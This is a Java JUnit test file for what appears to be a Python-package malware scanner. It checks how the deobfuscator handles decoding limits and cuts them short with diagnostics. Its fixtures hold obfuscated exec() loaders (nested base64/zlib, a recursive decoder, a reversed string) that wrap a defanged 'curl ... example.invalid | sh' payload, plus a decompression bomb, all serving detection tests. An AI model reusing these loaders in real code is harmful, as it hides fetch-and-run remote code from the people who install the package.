package dev.kingsnake.internal.decode;

import dev.kingsnake.Diagnostic;
import dev.kingsnake.DiagnosticCode;
import dev.kingsnake.Finding;
import dev.kingsnake.Limits;
import dev.kingsnake.ScanResult;
import dev.kingsnake.Scanner;
import dev.kingsnake.spi.PythonFile;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Every decoding bound (bytes per layer, layers, bytes per package, time) is a diagnostic when it cuts
 * decoding short, and what is decoded reaches the rules as layers carrying their chain. Payloads are our own
 * defanged text (hosts under example.invalid).
 */
class DecodeLimitsTest {
    private static final String PAYLOAD = "import os\nos.system('curl -s https://example.invalid/limits | sh')\n";

    @BeforeAll
    static void parserPresent() {
        DecodeFixturesTest.parserPresent();
    }

    private static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    /** exec(zlib.decompress(base64.b64decode(base64.b64decode('...')))): three decoding steps. */
    private static byte[] threeSteps() {
        String blob = b64(b64(PrimitivesTest.deflate(PAYLOAD.getBytes(StandardCharsets.UTF_8)))
                .getBytes(StandardCharsets.US_ASCII));
        return ("import base64, zlib\nexec(zlib.decompress(base64.b64decode(base64.b64decode('" + blob + "'))))\n")
                .getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] wheel(byte[] init) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("demo-1.0.dist-info/METADATA"));
            zip.write("Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("demo/__init__.py"));
            zip.write(init);
        }
        return bytes.toByteArray();
    }

    static ScanResult scan(Limits limits, byte[] init) throws IOException {
        Scanner scanner = Scanner.builder().rules(List.of(new EngineDecodeTest.ProbeRule())).limits(limits).build();
        return scanner.scan("demo-1.0-py3-none-any.whl", new ByteArrayInputStream(wheel(init)));
    }

    static boolean limit(List<Diagnostic> diags, String text) {
        return diags.stream().anyMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED && d.message().contains(text));
    }

    /**
     * Torch's {@code _dynamo/package.py}: a function importing, inside its body, a function of its own name. Read
     * as recursion it ran into the evaluator's depth limit and made the real wheel partial.
     */
    @Test
    void importInsideFunctionShadowsTheModuleFunctionOfThatName() throws IOException {
        String source = """
                import os

                def cache_dir() -> str:
                    from demo.runtime.dirs import cache_dir

                    return cache_dir()

                CACHE = os.path.join(cache_dir(), "dynamo")
                """;
        ScanResult r = scan(Limits.defaults(), source.getBytes(StandardCharsets.UTF_8));
        assertTrue(r.diagnostics().stream().noneMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /**
     * Real code the evaluator, which resolves names without Python's scopes, reads as a call of itself with the
     * same arguments (openpyxl's {@code sorted} method, werkzeug's wrapped {@code self.compile}): Python would
     * never return from such a call, so it has no value, and it is not a limit that makes the scan partial.
     */
    @Test
    void aCallOfItselfWithTheSameArgumentsHasNoValueAndIsNoLimit() throws IOException {
        String source = """
                class Ranges:
                    def sorted(self):
                        return sorted(self.ranges, key=len)

                    def __repr__(self):
                        return " ".join([str(r) for r in self.sorted()])

                class Console:
                    def __init__(self):
                        original_compile = self.compile

                        def compile(source, filename, symbol):
                            return original_compile(source, filename, symbol)

                        self.compile = compile

                    def run(self, code):
                        exec(self.compile(code, "<console>", "single"))
                """;
        ScanResult r = scan(Limits.defaults(), source.getBytes(StandardCharsets.UTF_8));
        assertTrue(r.diagnostics().stream().noneMatch(d -> d.code() == DiagnosticCode.LIMIT_EXCEEDED), r::toString);
        assertFalse(r.partial(), r::toString);
    }

    /** A decoder that calls itself with other arguments is still followed to its payload. */
    @Test
    void recursiveDecoderWithChangingArgumentsIsFollowed() throws IOException {
        String blob = b64(b64(b64(PAYLOAD.getBytes(StandardCharsets.UTF_8)).getBytes(StandardCharsets.US_ASCII))
                .getBytes(StandardCharsets.US_ASCII));
        String source = "import base64\n"
                + "def peel(s, n):\n"
                + "    if n == 0:\n"
                + "        return s\n"
                + "    return peel(base64.b64decode(s), n - 1)\n"
                + "exec(peel('" + blob + "', 3))\n";
        ScanResult r = scan(Limits.defaults(), source.getBytes(StandardCharsets.UTF_8));
        List<Finding> probes = r.findings().stream().filter(f -> f.ruleId().equals("KS-TEST-PROBE")).toList();
        assertEquals(1, probes.size(), r::toString);
        assertEquals(List.of("base64", "base64", "base64"), probes.get(0).decodeChain());
    }

    @Test
    void decodedLayerReachesRulesWithItsChain() throws IOException {
        ScanResult r = scan(Limits.defaults(), threeSteps());
        List<Finding> probes = r.findings().stream().filter(f -> f.ruleId().equals("KS-TEST-PROBE")).toList();
        assertEquals(1, probes.size(), r::toString);
        assertEquals("demo/__init__.py#layer1", probes.get(0).file());
        assertEquals(List.of("base64", "base64", "zlib"), probes.get(0).decodeChain());
    }

    @Test
    void moreLayersThanAllowedIsADiagnostic() throws IOException {
        ScanResult r = scan(Limits.builder().maxDecodeLayers(2).build(), threeSteps());
        assertTrue(r.findings().stream().noneMatch(f -> f.ruleId().equals("KS-TEST-PROBE")), r::toString);
        assertTrue(limit(r.diagnostics(), "more than 2 decoding layers"), r.diagnostics()::toString);
    }

    /**
     * The payload of {@link #threeSteps()} was reached by following its decoding calls (a cut evaluation may still
     * find it by guessing, with a chain of guessed steps).
     */
    private static boolean followed(ScanResult r) {
        return r.findings().stream().anyMatch(f -> f.ruleId().equals("KS-TEST-PROBE")
                && f.decodeChain().equals(List.of("base64", "base64", "zlib")));
    }

    @Test
    void analysisStepsAreADiagnostic() throws IOException {
        assertFalse(scan(Limits.defaults(), threeSteps()).partial());
        ScanResult r = scan(Limits.builder().maxAnalysisSteps(5).build(), threeSteps());
        assertFalse(followed(r), r::toString);
        assertTrue(limit(r.diagnostics(), "evaluation step limit of 5 reached"), r.diagnostics()::toString);
        assertTrue(r.partial());
    }

    /**
     * psycopg's tests build big strings as {@code "".join(chr(randrange(1, 256)) for i in range(10 * 1024 * 1024))}.
     * range() was one evaluation step that made every item (and the decoder's copy of each) before the
     * comprehension stopped at its first unknown item, for every decoding call and sink reading it: minutes of CPU.
     * Its items are now made when read, so a range of two billion is no work until iterated (it used to be an
     * array of two billion: OutOfMemoryError), and iterating is bounded by the steps: cut with a diagnostic.
     */
    @Test
    void aRangeCostsTheStepsOfTheItemsReadNotItsLength() throws IOException {
        Limits roomy = Limits.builder().maxDecodedBytesPerLayer(1L << 31).maxDecodedBytesPerPackage(1L << 31).build();
        String unknownItems = "from random import randrange\n"
                + "data = ''.join(chr(randrange(1, 256)) for i in range(2000000000))\n"
                + "print(data.encode())\n";
        ScanResult r = scan(roomy, unknownItems.getBytes(StandardCharsets.UTF_8));
        assertFalse(r.partial(), r.diagnostics()::toString);

        String knownItems = "data = ''.join(chr(65 + i % 26) for i in range(2000000000))\nprint(data.encode())\n";
        ScanResult cut = scan(roomy.toBuilder().maxAnalysisSteps(100_000).build(),
                knownItems.getBytes(StandardCharsets.UTF_8));
        assertTrue(limit(cut.diagnostics(), "evaluation step limit of 100000 reached"), cut.diagnostics()::toString);
    }

    @Test
    void evaluationDepthIsADiagnostic() throws IOException {
        assertTrue(followed(scan(Limits.defaults(), threeSteps())));
        ScanResult r = scan(Limits.builder().maxEvaluationDepth(3).build(), threeSteps());
        assertFalse(followed(r), r::toString);
        assertTrue(limit(r.diagnostics(), "expression nested deeper than 3"), r.diagnostics()::toString);
    }

    /**
     * A decoding loop that takes one character per round: followed to its payload by default, and cut with a
     * diagnostic (not silently) once its rounds pass the share of the analysis steps a loop may take.
     */
    @Test
    void whileLoopRoundsAreADiagnostic() throws IOException {
        String hidden = new StringBuilder(PAYLOAD).reverse().toString().replace("\n", "\\n").replace("'", "\\'");
        String source = "def unscramble(s):\n"
                + "    out = ''\n"
                + "    i = len(s)\n"
                + "    while i > 0:\n"
                + "        i = i - 1\n"
                + "        out = out + s[i]\n"
                + "    return out\n"
                + "exec(unscramble('" + hidden + "'))\n";
        ScanResult whole = scan(Limits.defaults(), source.getBytes(StandardCharsets.UTF_8));
        assertEquals(1, whole.findings().stream().filter(f -> f.ruleId().equals("KS-TEST-PROBE")).count(),
                whole::toString);
        // 40,000 steps: a loop may take 20 rounds, fewer than the payload's characters
        ScanResult cut = scan(Limits.builder().maxAnalysisSteps(40_000).build(), source.getBytes(StandardCharsets.UTF_8));
        assertTrue(cut.findings().stream().noneMatch(f -> f.ruleId().equals("KS-TEST-PROBE")), cut::toString);
        assertTrue(limit(cut.diagnostics(), "while loop followed for 20 rounds"), cut.diagnostics()::toString);
    }

    @Test
    void packageBudgetIsADiagnostic() throws IOException {
        ScanResult r = scan(Limits.builder().maxDecodedBytesPerPackage(100).build(), threeSteps());
        assertTrue(limit(r.diagnostics(), "package decode budget exhausted"), r.diagnostics()::toString);
    }

    @Test
    void packageTimeIsADiagnostic() throws IOException {
        ScanResult r = scan(Limits.builder().packageTimeout(Duration.ofNanos(1)).build(), threeSteps());
        assertTrue(limit(r.diagnostics(), "time limit"), r.diagnostics()::toString);
    }

    @Test
    void bombInALiteralDecodedBlindlyIsADiagnostic() {
        // no decoding call names the literal: it is guessed (base64, then zlib) because the file runs built code
        String bomb = b64(PrimitivesTest.deflate(new byte[8 * 1024 * 1024]));
        byte[] src = ("blob = '" + bomb + "'\nexec(code)\n").getBytes(StandardCharsets.UTF_8);
        PythonFile f = DecodeFixturesTest.model("bomb.py", src, List.of(), Optional.empty());
        Deobfuscator.Result r = new Deobfuscator(Limits.builder().maxDecodedBytesPerLayer(1 << 20).build())
                .peel(f, new DecodeBudget(1 << 26));
        assertTrue(r.layers().isEmpty(), r.layers()::toString);
        assertTrue(limit(r.diagnostics(), "literal not decoded"), r.diagnostics()::toString);
    }

    @Test
    void evalOfAnExpressionStringIsFoldedNotALayer() throws IOException {
        byte[] src = DecodeFixturesTest.class.getResourceAsStream("/decode/layer_eval_names.py").readAllBytes();
        Deobfuscator.Result r = new Deobfuscator(Limits.defaults())
                .peel(DecodeFixturesTest.model("e.py", src, List.of(), Optional.empty()), new DecodeBudget(1 << 26));
        assertEquals(1, r.layers().size(), r.layers()::toString);
        assertEquals(List.of("rot13", "base64"), r.layers().get(0).chain());
    }

    @Test
    void aLayerWidenedAfterItsBoundIsCutToTheBound() {
        // 400 hex digits decode to 200 bytes (within the bound); each invalid UTF-8 byte becomes U+FFFD (three
        // bytes) when .decode() turns them into text, so the layer would be 600 bytes
        int bound = 512;
        String hex = "ff".repeat(200);
        byte[] src = ("x = '" + hex + "'\nexec(bytes.fromhex(x).decode('utf-8', 'replace'))\n")
                .getBytes(StandardCharsets.UTF_8);
        PythonFile f = DecodeFixturesTest.model("wide.py", src, List.of(), Optional.empty());
        Deobfuscator.Result r = new Deobfuscator(Limits.builder().maxDecodedBytesPerLayer(bound).build())
                .peel(f, new DecodeBudget(1 << 26));
        assertTrue(r.layers().stream().allMatch(l -> l.content().length <= bound), r.layers()::toString);
        assertTrue(limit(r.diagnostics(), "cut at " + bound + " bytes"), r.diagnostics()::toString);
    }
}
